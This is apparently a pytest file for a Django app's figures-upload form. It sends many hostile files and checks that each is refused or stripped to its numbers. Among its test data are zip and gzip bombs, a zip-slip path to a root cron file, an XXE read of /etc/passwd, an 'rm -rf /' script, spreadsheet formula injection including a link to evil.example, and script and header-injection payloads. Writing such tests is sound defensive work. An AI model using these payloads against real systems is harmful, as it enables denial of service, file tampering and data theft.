"""A corpus of hostile files, made here, at the one place that takes a file: refused in words, or only its figures kept.

Each is sent as a browser would and by htmx, alone and beside figures that somebody typed.
"""

from __future__ import annotations

import base64
import gzip
import io
import random
import struct
import zipfile
from collections.abc import Callable, Mapping
from html import unescape
from http import HTTPStatus
from typing import Any, Final, NamedTuple

import pytest
from django.core.files.storage import default_storage
from django.test import Client

from cxplan.workspaces.models import Member
from roadmap.models import Measurement, Metric
from tests.cast import Cast
from tests.make import make
from tests.test_permissions import checksum

pytestmark = pytest.mark.django_db

SignIn = Callable[[Member], Client]

GOOD: Final = b"2026-10;61;25;14\n"
TYPED: Final = "2026-11;30;20;10\r\n2026-12;words that took an hour"
NEXT_PART: Final = b"\r\n--zq9\r\n"
HTMX: Final = {"HX-Request": "true"}


class Sent(NamedTuple):
    """A file as it travels: what its part of the form says of it, and what is in it."""

    content: bytes
    name: bytes = b"figures.csv"
    kind: bytes = b"Content-Type: text/csv"


def archive(entries: Mapping[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in entries.items():
            file.writestr(name, content)
    return packed.getvalue()


def bomb() -> bytes:
    return archive({"figures.csv": bytes(100_000_000)})


def lying() -> bytes:
    """Says in its directory that what is in it takes one byte."""
    packed = bytearray(archive({"figures.csv": bytes(1_000_000)}))
    struct.pack_into("<I", packed, packed.rindex(b"PK\x01\x02") + 24, 1)
    return bytes(packed)


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{entities}]><l>&l9;</l>'.encode()


def office(*names: str) -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", **dict.fromkeys(names, b"<x/>")})


PNG: Final = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60_000, 60_000, 8, 6, 0, 0, 0)

#: Nothing of these may be kept, and each is answered in words.
REFUSED: Final[dict[str, Callable[[], Sent]]] = {
    # Packed
    "zip bomb": lambda: Sent(bomb()),
    "zip in a zip": lambda: Sent(archive({"a.zip": archive({"b.zip": bomb()})})),
    "zip slip": lambda: Sent(archive({"../../../../etc/cron.d/zq9": b"* * * * * root zq9"})),
    "zip of 5,000 entries": lambda: Sent(archive({f"{n}.csv": b"" for n in range(5_000)})),
    "zip whose directory lies": lambda: Sent(lying()),
    "gzip bomb": lambda: Sent(gzip.compress(bytes(50_000_000))),
    # Other kinds of file
    "xlsx": lambda: Sent(office("xl/workbook.xml")),
    "docm with macros": lambda: Sent(office("word/document.xml", "word/vbaProject.bin"), b"figures.docm"),
    "xls": lambda: Sent(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), b"figures.xls"),
    "PDF that runs a script": lambda: Sent(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</S/JavaScript/JS(zq9())>>endobj\n"),
    "PDF that is CSV too": lambda: Sent(b"%PDF-1.7\n" + GOOD),
    "GIF that is CSV too": lambda: Sent(b"GIF89a;1;1;1\n" + GOOD),
    "PNG of 60,000 × 60,000": lambda: Sent(PNG),
    "SVG with a script": lambda: Sent(b'<svg xmlns="http://www.w3.org/2000/svg"><script>zq9()</script></svg>'),
    "HTML with a script": lambda: Sent(b"<!doctype html><script>zq9()</script>\n" + GOOD),
    "billion laughs": lambda: Sent(laughs()),
    "XML that fetches": lambda: Sent(b'<!DOCTYPE x [<!ENTITY z SYSTEM "file:///etc/passwd">]><x>&z;</x>'),
    "program": lambda: Sent(b"\x7fELF\x02\x01\x01" + bytes(57), b"figures.exe"),
    "shell script": lambda: Sent(b"#!/bin/sh\nrm -rf /\n", b"figures.sh"),
    # Encodings
    "UTF-16 with half a character": lambda: Sent(b"\xff\xfe" + "2026-10;61;25;".encode("utf-16-le") + b"\x00\xd8\x31"),
    "UTF-16 that says nothing of it": lambda: Sent(GOOD.decode().encode("utf-16-le")),
    "UTF-32": lambda: Sent(GOOD.decode().encode("utf-32")),
    "UTF-7": lambda: Sent(b"+ADw-script+AD4-zq9()+ADw-/script+AD4-;1;2;3\n2026-10;+ADY-;2;3\n"),
    "lone surrogates": lambda: Sent(b"2026-10;\xed\xa0\x80;25;14\n"),
    "overlong UTF-8": lambda: Sent(b"2026-10;\xc0\xb1;25;14\n"),
    "a mark of order on each row": lambda: Sent(b"\xef\xbb\xbf\xef\xbb\xbf" + GOOD + b"\xef\xbb\xbf" + GOOD),
    "NUL in the middle": lambda: Sent(b"2026-10;61;2\x005;14\n"),
    "NUL behind a mark of order": lambda: Sent(b"\xff\xfe" + "2026-10;6\x001;25;14\n".encode("utf-16-le")),
    "what a terminal obeys": lambda: Sent(b"2026-10;\x1b]0;zq9\x07\x1b[2J;25;14\n"),
    "random bytes": lambda: Sent(random.Random(9).randbytes(150_000)),
    # Shapes
    "no bytes": lambda: Sent(b""),
    "nothing but ends of lines": lambda: Sent(b"\r\n\v\f\x1c\x85" * 20_000),
    "5,000 columns": lambda: Sent(b"2026-10" + b";1" * 5_000),
    "a heading of 5,000 columns": lambda: Sent(b"jakso" + b";n" * 5_000 + b"\n2026-10;1"),
    "1,000,000 lines": lambda: Sent(GOOD * 1_000_000),
    "60,000 lines of odd ends": lambda: Sent("1\u2028".encode() * 40_000),
    "one line of 2 MB": lambda: Sent(b"2026-10;" + b"1" * 2_000_000),
    "one cell of 190 kB": lambda: Sent(b"2026-10;" + b"1" * 190_000),
    "quotes that never close": lambda: Sent(b'2026-10;"61;25;14\n' + GOOD * 3),
    "quotes within quotes": lambda: Sent(b'"' * 150_001),
    # Cells
    "formulas": lambda: Sent(b"2026-10;=cmd|' /C calc'!A0;@SUM(1+1)*zq9;+1+1\n"),
    "a formula in place of the period": lambda: Sent(b'=HYPERLINK("https://evil.example/?"&A1);61;25;14\n'),
    "numbers without end": lambda: Sent(b"2026-10;" + b"9" * 5_000 + b";1;1\n2026-11;1e400;1;1\n"),
    "NaN and infinity": lambda: Sent(b"2026-10;NaN;inf;-Infinity\n"),
    "counts below nothing": lambda: Sent(b"2026-10;-61;25;14\n"),
    "digits of another script": lambda: Sent("2026-10;٦١;²;１４\n٢٠٢٦-١١;1;2;3\n".encode()),
    "words turned round": lambda: Sent("\u202e2026-10;\u202e61;\u206625;14\u2069\n".encode()),
    "figures that stand there already": lambda: Sent(b"2026-09;1;1;1\n"),
    "markup": lambda: Sent(b"</textarea><script>zq9()</script>;{{ 7|add:42 }};' onfocus=zq9();1\n"),
    # Parts of the form
    "a broken transfer encoding": lambda: Sent(b"\xff" * 30, kind=b"Content-Transfer-Encoding: base64"),
    "a part of 2 kB of headers": lambda: Sent(GOOD, kind=b"X-Zq9: " + b"z" * 2_000),
    "150 files": lambda: Sent(GOOD + b"".join(
        NEXT_PART + b'Content-Disposition: form-data; name="f%d"; filename="f.csv"\r\n\r\n' % n for n in range(150))),
    "a name of 10,000 characters": lambda: Sent(GOOD, b"z" * 10_000 + b".csv"),
    "a name in another encoding": lambda: Sent(GOOD, b"\xff\xfe\xed\xa0\x80.csv"),
    "a name that says the directory above": lambda: Sent(GOOD, b".."),
}  # fmt: skip

#: Of these the figures are kept and nothing else: what a file is called, and said to be, has no meaning here.
NEUTRALISED: Final[dict[str, Callable[[], Sent]]] = {
    "NUL in the name": lambda: Sent(GOOD, b"figures.csv\0.exe"),
    "a path in the name": lambda: Sent(GOOD, b"../../../../etc/cron.d/zq9"),
    "a path of Windows in the name": lambda: Sent(GOOD, rb"C:\Windows\zq9.csv"),
    "markup in the name": lambda: Sent(GOOD, b"<img src=x onerror=zq9()>.csv"),
    "a name turned round": lambda: Sent(GOOD, "figures\u202evsc.exe".encode()),
    "a name that is a device": lambda: Sent(GOOD, b"CON.csv"),
    "a name that begins a header": lambda: Sent(GOOD, b'figures.csv"\r\nSet-Cookie: zq9=1\r\nX: "'),
    "called HTML": lambda: Sent(GOOD, kind=b"Content-Type: text/html; charset=utf-7"),
    "called a program": lambda: Sent(GOOD, kind=b"Content-Type: application/x-msdownload"),
    "called nothing": lambda: Sent(GOOD, kind=b"X-Zq9: none"),
    "packed for the way": lambda: Sent(base64.b64encode(GOOD), kind=b"Content-Transfer-Encoding: base64"),
    "a heading that is markup": lambda: Sent(b"<script>zq()</script>;a;b;c\n" + GOOD),
    "UTF-16 as sheets write it": lambda: Sent(GOOD.decode().encode("utf-16")),
}


@pytest.fixture
def metric(cast: Cast) -> Metric:
    made = make(Metric, cast.programme, kind="nps", name="Recommend us")
    make(Measurement, cast.programme, metric=made, period="2026-09", promoters=1, passives=1, detractors=1)
    return made


@pytest.fixture
def alice(cast: Cast, sign_in: SignIn) -> Client:
    client = sign_in(cast.alice)
    client.raise_request_exception = False
    return client


def send(client: Client, metric: Metric, file: Sent, typed: str, headers: dict[str, str]) -> Any:
    programme = metric.programme
    url = f"/w/{programme.workspace.slug}/programmes/{programme.pk}/records/metric/{metric.pk}/figures/"
    parts = (
        b'Content-Disposition: form-data; name="figures-%d-text"\r\n\r\n%s' % (metric.pk, typed.encode()),
        b'Content-Disposition: form-data; name="figures-%d-file"; filename="%s"\r\n%s\r\n\r\n%s'
        % (metric.pk, file.name, file.kind, file.content),
    )
    body = b"--zq9\r\n" + NEXT_PART.join(parts) + b"\r\n--zq9--\r\n"
    return client.generic("POST", url, body, "multipart/form-data; boundary=zq9", headers=headers)


def in_words(page: str) -> bool:
    """What happened and what to do, in the form or on a page of its own."""
    return 'class="error' in page or "data-error-page" in page


def kept(page: str) -> bool:
    """What was typed stands in the form; on a page of its own the browser still has it."""
    return TYPED.replace("\r\n", "\n") in unescape(page).replace("\r\n", "\n") or "is still there" in page


@pytest.mark.parametrize("hostile", REFUSED)
def test_a_hostile_file_is_refused_in_words(alice: Client, metric: Metric, hostile: str) -> None:
    file = REFUSED[hostile]()
    before = checksum()
    for typed, headers in (("", HTMX), (TYPED, HTMX), (TYPED, {})):
        answer = send(alice, metric, file, typed, headers)
        page = answer.content.decode()
        assert HTTPStatus.BAD_REQUEST <= answer.status_code < HTTPStatus.INTERNAL_SERVER_ERROR, page
        assert in_words(page)
        assert kept(page) or not typed
        assert "<script>zq9()" not in page
        assert "\0" not in page
        assert len(page) < 1_000_000
    assert checksum() == before


@pytest.mark.parametrize("hostile", NEUTRALISED)
def test_of_a_disguised_file_only_the_figures_are_kept(alice: Client, metric: Metric, hostile: str) -> None:
    file = NEUTRALISED[hostile]()
    refused = send(alice, metric, file, TYPED, {})
    assert refused.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
    assert kept(refused.content.decode())
    before = checksum()
    answer = send(alice, metric, file, "", {})
    assert answer.status_code == HTTPStatus.FOUND, answer.content.decode()
    assert "zq9" not in answer.cookies
    written = {table for table, value in checksum().items() if value != before[table]}
    told = {"live_event", "live_stream"}  # the programme's other pages hear that something changed
    assert written == {"roadmap_measurement", "roadmap_programme", "workspaces_change"} | told
    added = Measurement.objects.of(metric.programme).get(period="2026-10")
    assert (added.promoters, added.passives, added.detractors) == (61, 25, 14)


def test_nothing_that_is_sent_becomes_a_file(alice: Client, metric: Metric, cast: Cast) -> None:
    """Not at the form that takes one, nor at one that takes none."""
    send(alice, metric, Sent(GOOD, b"zq9.csv"), "", {})
    new = f"/w/alpha/programmes/{cast.programme.pk}/records/gap/new/"
    answer = alice.post(new, {"gap-new-title": "Zq9", "gap-new-severity": "3", "file": io.BytesIO(bomb())})
    assert answer.status_code == HTTPStatus.FOUND
    assert default_storage.listdir("") == ([], [])
